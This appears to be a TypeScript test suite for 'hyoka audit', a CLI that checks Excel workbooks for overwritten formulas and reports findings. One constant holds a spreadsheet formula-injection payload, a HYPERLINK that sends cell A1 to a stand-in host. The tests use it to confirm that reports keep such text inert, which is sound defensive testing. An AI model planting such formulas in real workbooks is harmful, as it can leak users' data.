// `hyoka audit` as a user meets it: exit codes 0 / 1 / 2, one line per finding and a summary line,
// the --json contract, the .xlsx report (text stays text), folders, lock files, a batch that goes on
// past bad files, and a progress bar only on a TTY.
import { promises as fs } from 'fs';
import * as path from 'path';
import { PassThrough } from 'stream';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { main } from '../../src/cli/main';
import { makeProgress } from '../../src/cli/audit-command';
import type { AuditReport } from '../../src/audit/types';
import { brokenFiles, cells, makeFixture, tamper, type Fixture } from './support';

async function run(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(['node', 'hyoka', ...args], (s) => void (out += s), (s) => void (err += s));
  return { code, out, err };
}

let fx: Fixture;
let batch: string;
let typedOver: string;
let injected: string;
let broken: Awaited<ReturnType<typeof brokenFiles>>;
const INJECTION = '=HYPERLINK("http://example.invalid/?"&A1,"click")';

beforeAll(async () => {
  fx = await makeFixture('hyoka-audit-cli-');
  broken = await brokenFiles(fx);
  const c = cells(fx, 0);
  typedOver = await tamper(fx, fx.recalculated, 'typed-over.xlsx', (wb) => {
    wb.getWorksheet(c.name)!.getCell(c.rate(1, 'R2')).value = '100%';
  });
  // Formula-injection text typed into an actual: a finding whose found value starts with '='.
  injected = await tamper(fx, fx.recalculated, 'injected.xlsx', (wb) => {
    wb.getWorksheet(c.name)!.getCell(c.actual(2, 'R4')).value = INJECTION;
  }, true);
  batch = path.join(fx.dir, 'batch');
  await fs.mkdir(batch);
  await fs.copyFile(broken.truncated, path.join(batch, 'a-truncated.xlsx'));
  await fs.copyFile(fx.recalculated, path.join(batch, 'b-clean.xlsx'));
  await fs.copyFile(broken.text, path.join(batch, 'c-text.xlsx'));
  await fs.copyFile(typedOver, path.join(batch, 'd-typed-over.xlsx'));
  await fs.copyFile(broken.ole, path.join(batch, 'e-encrypted.xlsx'));
  await fs.copyFile(fx.recalculated, path.join(batch, '~$b-clean.xlsx')); // Excel's lock file: skipped
  await fs.writeFile(path.join(batch, 'notes.txt'), 'not a workbook');
}, 180_000);
afterAll(async () => {
  if (fx) await fs.rm(fx.dir, { recursive: true, force: true });
});

test('a clean workbook: nothing but the summary line, exit 0', async () => {
  const r = await run('audit', fx.recalculated);
  expect(r.code).toBe(0);
  expect(r.out).toBe('監査 1 ファイル: 指摘 0 件、読めないファイル 0 / audited 1 file(s): 0 finding(s), 0 unreadable\n');
});

test('a tampered workbook: one line naming file, sheet!cell, kind, expected and found; exit 1', async () => {
  const c = cells(fx, 0);
  const r = await run('audit', typedOver);
  expect(r.code).toBe(1);
  const lines = r.out.trimEnd().split('\n');
  expect(lines).toHaveLength(2);
  expect(lines[0]).toContain(`${typedOver}  ${c.name}!${c.rate(1, 'R2')}  formula-overwritten  期待/expected 「59%」  実際/found 「100%」`);
  expect(lines[0]).toContain('the formula was replaced by the typed value');
  expect(lines[1]).toContain('指摘 1 件');
});

test('a folder with good, tampered and broken files: every file reported, the batch goes on, exit 2', async () => {
  const r = await run('audit', batch, '--json');
  expect(r.code).toBe(2);
  const report = JSON.parse(r.out) as AuditReport;
  expect(report.version).toBe(1);
  expect(report.files.map((f) => [path.basename(f.file), f.status])).toEqual([
    ['a-truncated.xlsx', 'unreadable'],
    ['b-clean.xlsx', 'clean'],
    ['c-text.xlsx', 'unreadable'],
    ['d-typed-over.xlsx', 'findings'],
    ['e-encrypted.xlsx', 'unreadable'],
  ]);
  expect(report.summary).toEqual({ files: 5, findings: 1, unreadable: 3 });
  const encrypted = report.files[4].problems[0];
  expect(encrypted).toMatchObject({ kind: 'unreadable', reason: 'encrypted', file: path.join(batch, 'e-encrypted.xlsx') });
  expect(encrypted.en).toContain('password-protected workbooks cannot be read');
  // The stable shape: files[].items[].kpis[].years[Rn] and counts[Rn].
  const clean = report.files[1];
  expect(clean.items).toHaveLength(30);
  expect(Object.keys(clean.items[0].kpis[0].years.R2).sort()).toEqual(['achieved', 'actual', 'actualCell', 'cell', 'display', 'found', 'problems', 'rate', 'status', 'target', 'targetCell']);
  expect(Object.keys(clean.items[0].counts.R2).sort()).toEqual(['achieved', 'cell', 'display', 'evaluated', 'found', 'problems']);
  expect(r.err).toBe(''); // no progress bar with --json
});

test('the table for the same folder names each unreadable file, then the summary', async () => {
  const r = await run('audit', batch);
  expect(r.code).toBe(2);
  const lines = r.out.trimEnd().split('\n');
  expect(lines).toHaveLength(5);
  expect(lines[0]).toMatch(/a-truncated\.xlsx {2}- {2}unreadable {2}ファイルが壊れているか途中で切れています/);
  expect(lines[1]).toMatch(/c-text\.xlsx .*not an \.xlsx \(zip\) file \(it looks like a text file\)/);
  expect(lines[3]).toMatch(/e-encrypted\.xlsx .*password-protected/);
  expect(lines[4]).toBe('監査 5 ファイル: 指摘 1 件、読めないファイル 3 / audited 5 file(s): 1 finding(s), 3 unreadable');
});

test('-o: an .xlsx report, one row per finding, text kept as text (no formula), written atomically', async () => {
  const report = path.join(fx.dir, 'report.xlsx');
  const r = await run('audit', injected, broken.bomb, '-o', report);
  expect(r.code).toBe(2);
  expect(r.out).toContain(`${report}: 報告書 / report written`);
  expect((await fs.readdir(fx.dir)).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(report);
  const ws = wb.worksheets[0];
  expect(ws.rowCount).toBe(3); // header, the injected text, the bomb
  const row = ws.getRow(2);
  expect(row.getCell(4).value).toBe('text-in-number-cell');
  expect(row.getCell(6).value).toBe(INJECTION);
  expect(row.getCell(6).type).toBe(ExcelJS.ValueType.String);
  expect(ws.getRow(3).getCell(4).value).toBe('unreadable');
  // No formula anywhere in the report's XML.
  const zip = await JSZip.loadAsync(await fs.readFile(report));
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
    expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
  }
  expect(wb.worksheets[1].getRow(2).getCell(2).value).toBe('指摘あり / findings');
  // The findings' filter carries its _xlnm._FilterDatabase name, so LibreOffice keeps it (as the summary's).
  const workbookXml = await zip.file('xl/workbook.xml')!.async('string');
  expect(workbookXml).toMatch(/<definedName name="_xlnm\._FilterDatabase" localSheetId="0">&apos;指摘 Findings&apos;!\$A\$1:\$[A-Z]+\$3</);
});

test('-o must be .xlsx; a missing input is reported, not thrown', async () => {
  expect((await run('audit', fx.recalculated, '-o', path.join(fx.dir, 'report.txt'))).code).toBe(2);
  const r = await run('audit', path.join(fx.dir, 'nowhere.xlsx'), fx.recalculated);
  expect(r.code).toBe(2);
  expect(r.out).toContain('nowhere.xlsx  -  unreadable  ファイルが見つかりません / file not found');
  expect(r.out).toContain('audited 2 file(s): 0 finding(s), 1 unreadable');
});

describe('progress bar', () => {
  const stream = (isTTY: boolean) => Object.assign(new PassThrough(), { isTTY, columns: 100 });
  test('drawn on a TTY for more than a few files', async () => {
    const s = stream(true);
    let drawn = '';
    s.on('data', (d: Buffer) => (drawn += d.toString()));
    const p = makeProgress(10, false, s);
    p.start(10);
    for (let i = 0; i < 10; i++) p.tick(`dept-${i}.xlsx`);
    p.stop();
    expect(drawn).toContain('監査 / auditing');
  });
  test('silent without a TTY, with --json, or for a few files', () => {
    const cases: [number, boolean, boolean][] = [
      [10, false, false], // no TTY
      [10, true, true], // --json
      [3, false, true], // a few files
    ];
    for (const [files, json, tty] of cases) {
      const s = stream(tty);
      const p = makeProgress(files, json, s);
      p.start(files);
      p.tick('x');
      p.stop();
      expect(s.read()).toBeNull();
    }
  });
});
